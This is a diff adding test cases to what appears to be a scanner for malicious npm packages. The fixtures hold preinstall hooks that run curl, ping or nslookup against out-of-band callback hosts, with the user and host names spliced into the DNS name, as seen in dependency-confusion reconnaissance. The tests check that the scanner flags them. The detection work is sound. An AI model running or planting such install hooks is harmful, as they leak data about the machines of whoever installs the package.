@@ -286,3 +286,25 @@ def test_command_spelled_as_character_codes_spread_into_from_char_code() -> None
     result, top = verdict(npm_tgz("fmt-utils", "2.0.0", {"setup.js": code, "index.js": "module.exports = 1;\n"},
                                   scripts={"postinstall": "node setup.js"}))
     assert result == "malicious" and "package.install-downloader:critical" in top, top
+
+
+@pytest.mark.parametrize(("files", "scripts"), [
+    ({"index.js": "module.exports = {}\n"}, {"preinstall": "curl https://$(whoami).c1abc2def.oast.fun"}),
+    ({"index.js": "module.exports = {}\n"}, {"preinstall": "ping -c 1 $(hostname).abc.burpcollaborator.net"}),
+    ({"index.js": "const {exec} = require('child_process');\n"
+                  "exec('nslookup $(whoami).$(hostname).c1abc2def.oast.pro');\n"}, {"preinstall": "node index.js"}),
+])
+def test_machine_data_in_a_callback_dns_name_at_install_is_a_beacon(files: dict[str, str],
+                                                                     scripts: dict[str, str]) -> None:
+    """Dependency-confusion recon: the shell builds the DNS name from the machine, so the lookup carries the
+    user and host names to the callback service. No URL scheme, so these were clean."""
+    result, findings = verdict(npm_tgz("acme-internal-utils", "9.9.9", files, scripts=scripts))
+    assert result == "malicious" and "package.install-beacon:critical" in findings
+
+
+def test_callback_service_names_in_a_client_stay_clean() -> None:
+    """An interactsh-style client lists the services by name; no callback host of its own, nothing run."""
+    js = "const SERVERS = ['oast.pro', 'oast.live', 'oast.site', 'oast.online', 'oast.fun', 'oast.me'];\n" \
+         "module.exports = { pick: () => SERVERS[Math.floor(Math.random() * SERVERS.length)] };\n"
+    result, findings = verdict(npm_tgz("oast-client", "1.2.0", {"index.js": js}))
+    assert result == "clean", findings
